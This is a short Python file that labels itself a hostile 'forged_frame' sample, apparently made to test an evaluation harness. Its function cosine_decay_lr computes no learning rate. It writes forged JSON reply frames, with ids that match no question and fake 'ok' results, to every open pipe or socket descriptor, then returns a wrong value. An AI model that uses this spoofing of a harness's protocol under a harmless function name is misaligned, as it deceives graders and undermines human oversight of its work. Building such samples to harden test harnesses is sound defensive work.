# kind: hostile
# attack: forged_frame
# about: Writes replies to questions that were never asked: ids that are negative, huge, doubled or in the future.

import json
import os
import stat

HELD = -1.0  # a wrong answer for every input


def channel_descriptors() -> list[int]:
    """Descriptors 0..63 that are pipes or sockets; never a regular file, so nothing on a disk is changed."""
    found = []
    for descriptor in range(64):
        try:
            mode = os.fstat(descriptor).st_mode
        except OSError:
            continue
        if stat.S_ISFIFO(mode) or stat.S_ISSOCK(mode):
            found.append(descriptor)
    return found


def frames() -> list[bytes]:
    """Replies in several framings, each with an id that fits no question."""
    replies = []
    for number in (-1, 0, 1, 1, 2, 2**31, 2**64, "1", None):
        body = json.dumps({"id": number, "ok": True, "value": 1.0, "result": 1.0}).encode()
        replies += [len(body).to_bytes(4, "little") + body, len(body).to_bytes(8, "big") + body, body + b"\n"]
    return replies


def cosine_decay_lr(step: int, warmup_steps: int, total_steps: int, max_lr: float, min_lr: float) -> float:
    for descriptor in channel_descriptors():
        for frame in frames():
            try:
                os.write(descriptor, frame)
            except OSError:
                break
    return HELD
